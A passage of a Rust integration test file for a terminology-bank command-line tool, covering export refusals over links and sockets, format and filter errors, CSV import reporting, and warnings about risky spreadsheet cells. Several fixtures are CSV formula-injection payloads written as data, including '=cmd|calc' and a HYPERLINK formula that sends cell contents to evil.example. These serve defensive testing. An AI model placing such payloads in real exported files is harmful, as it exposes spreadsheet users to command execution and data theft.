    assert!(!dir.path().join("no such folder").exists());
}

/// An export replaces its file whole; over a link, a socket or a device
/// that would leave a regular file in its place, so it is refused.
#[cfg(unix)]
#[test]
fn an_export_over_a_link_or_a_socket_is_refused_and_leaves_both_as_they_were() {
    let dir = tempfile::tempdir().unwrap();
    let root = bank(dir.path());
    let real = dir.path().join("real.tbx");
    fs::write(&real, "ORIGINAL").unwrap();
    let link = dir.path().join("link.tbx");
    std::os::unix::fs::symlink(&real, &link).unwrap();
    let socket = dir.path().join("socket.tbx");
    let _listener = std::os::unix::net::UnixListener::bind(&socket).unwrap();
    for (target, what) in [(&link, "a symbolic link"), (&socket, "not a regular file")] {
        let out = run(&["terms", "export", s(&root), "-o", s(target)]);
        let said = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{said}");
        assert!(said.contains(what), "{said}");
    }
    assert!(
        fs::symlink_metadata(&link)
            .unwrap()
            .file_type()
            .is_symlink()
    );
    assert_eq!(fs::read_to_string(&real).unwrap(), "ORIGINAL");
    use std::os::unix::fs::FileTypeExt;
    assert!(
        fs::symlink_metadata(&socket)
            .unwrap()
            .file_type()
            .is_socket()
    );
}

#[test]
fn a_tsv_export_of_several_language_pairs_says_so() {
    let demo = concat!(env!("CARGO_MANIFEST_DIR"), "/demo-bank");
    let warned = |args: &[&str]| String::from_utf8_lossy(&run(args).stderr).into_owned();
    let mixed = warned(&["terms", "export", demo, "--format", "tsv"]);
    assert!(
        mixed.contains("mixes 2 language pairs (en-GB → fr-FR, en-US → nl-BE)"),
        "{mixed}"
    );
    let one = warned(&[
        "terms",
        "export",
        demo,
        "--format",
        "tsv",
        "--pair",
        "en-US:nl-BE",
    ]);
    assert!(!one.contains("language pairs"), "{one}");
    // TBX and CSV name each term's language.
    let tbx = warned(&["terms", "export", demo, "--format", "csv"]);
    assert!(!tbx.contains("language pairs"), "{tbx}");
}

#[test]
fn the_glossarys_format_is_never_taken_for_a_layout() {
    let dir = tempfile::tempdir().unwrap();
    let root = bank(dir.path());
    let job = fixture("job.xlf");
    for (before, after) in [
        (&[][..], &["--format", "dejavu"][..]),
        (&["--format", "dejavu"][..], &[][..]),
    ] {
        let mut args: Vec<&str> = before.to_vec();
        args.extend(["terms", s(&root), "--for", s(&job)]);
        args.extend(after);
        let out = run(&args);
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(
            err.contains("--format dejavu: use tbx, csv, tsv or md"),
            "{err}"
        );
        assert!(!err.contains("Deja Vu"), "{err}");
    }
    let out = run(&["terms", s(&root), "--for", s(&job), "--format", "md"]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn an_export_matching_no_term_is_refused_naming_the_filters() {
    let dir = tempfile::tempdir().unwrap();
    let root = empty_bank(dir.path(), "b");
    term(
        &root,
        "invoice",
        "factuur",
        "approved",
        &[],
        None,
        "2026-01-15",
        "",
    );
    let file = dir.path().join("out.tbx");
    let out = run(&[
        "terms",
        "export",
        s(&root),
        "--pair",
        "de:fr",
        "--status",
        "rejected",
        "-o",
        s(&file),
    ]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        err.contains("--pair de:fr") && err.contains("--status rejected"),
        "{err}"
    );
    assert!(!file.exists(), "no file is written");
}

#[test]
fn a_csv_export_warns_of_terms_a_spreadsheet_would_run() {
    let dir = tempfile::tempdir().unwrap();
    let root = empty_bank(dir.path(), "b");
    term(
        &root,
        "calculator",
        "=cmd|calc",
        "approved",
        &[],
        None,
        "2026-01-15",
        "",
    );
    term(
        &root,
        "invoice",
        "factuur",
        "approved",
        &[],
        None,
        "2026-01-15",
        "",
    );
    for format in ["csv", "tsv"] {
        let out = run(&["terms", "export", s(&root), "--format", format]);
        assert_eq!(out.status.code(), Some(0), "{out:?}");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(
            err.contains("warning") && err.contains("“=cmd|calc”") && !err.contains("factuur"),
            "{format}: {err}"
        );
        assert!(
            stdout(&out).contains("=cmd|calc"),
            "the term is kept as written"
        );
    }
    let out = run(&["terms", "export", s(&root), "--format", "tbx"]);
    assert!(out.stderr.is_empty(), "TBX is no spreadsheet: {out:?}");
}

/// A domain, a client or a note runs in a spreadsheet as readily as a
/// term does: each is named, and kept as written.
#[test]
fn a_csv_export_warns_of_every_cell_a_spreadsheet_would_run() {
    let dir = tempfile::tempdir().unwrap();
    let root = empty_bank(dir.path(), "b");
    term(
        &root,
        "invoice",
        "factuur",
        "approved",
        &["@SUM(1+1)"],
        Some("=1+2"),
        "2026-01-15",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    );
    for format in ["csv", "tsv"] {
        let out = run(&["terms", "export", s(&root), "--format", format]);
        assert_eq!(out.status.code(), Some(0), "{out:?}");
        let err = String::from_utf8_lossy(&out.stderr);
        for named in [
            "domain “=1+2”",
            "client “@SUM(1+1)”",
            "the note of 02_TERMINOLOGY/invoice → factuur.md",
        ] {
            assert!(
                err.contains("warning") && err.contains(named),
                "{format}: {named}: {err}"
            );
        }
        assert!(!err.contains("term “"), "no term is risky: {err}");
        assert!(
            stdout(&out).contains("=1+2"),
            "the domain is kept as written"
        );
    }
}

/// `;` separates an entry's clients in CSV and TSV: a client whose name
/// holds one is named in a warning, since it reads back as two.
#[test]
fn a_csv_export_warns_of_a_client_name_its_separator_would_split() {
    let dir = tempfile::tempdir().unwrap();
    let root = empty_bank(dir.path(), "b");
    term(
        &root,
        "invoice",
        "factuur",
        "approved",
        &["Smith; Jones LLP", "Acme"],
        None,
        "2026-01-15",
        "",
    );
    for format in ["csv", "tsv"] {
        let out = run(&["terms", "export", s(&root), "--format", format]);
        assert_eq!(out.status.code(), Some(0), "{out:?}");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(
            err.contains("warning") && err.contains("“Smith; Jones LLP”") && !err.contains("Acme"),
            "{format}: {err}"
        );
    }
    let out = run(&["terms", "export", s(&root), "--format", "tbx"]);
    assert!(out.stderr.is_empty(), "TBX keeps the name whole: {out:?}");
}

#[test]
fn import_names_each_row_it_leaves_out() {
    let dir = tempfile::tempdir().unwrap();
    let root = empty_bank(dir.path(), "b");
    let csv = dir.path().join("rows.csv");
    fs::write(
        &csv,
        "Source,Target,Source Language,Target Language,Status\n\
         warranty,garantie,en-US,nl-BE,approved\n\
         invoice,factuur,,,approved\n\
         compliance,,en-US,nl-BE,approved\n",
    )
    .unwrap();
    let (v, code) = json(&["terms", "import", s(&root), s(&csv), "--json"]);
    assert_eq!(code, Some(1), "{v}");
    assert_eq!(v["terms"].as_array().unwrap().len(), 1, "{v}");
    let left_out: Vec<&str> = v["left_out"]
        .as_array()
        .unwrap()
        .iter()
        .map(|w| w.as_str().unwrap())
        .collect();
    assert_eq!(left_out.len(), 2, "{v}");
    assert!(left_out[0].starts_with("line 3: "), "{v}");
    assert!(left_out[1].starts_with("line 4: "), "{v}");
    let human = stdout(&run(&["terms", "import", s(&root), s(&csv)]));
    assert!(
        human.contains("left out") && human.contains("line 3:") && human.contains("line 4:"),
        "{human}"
    );
}
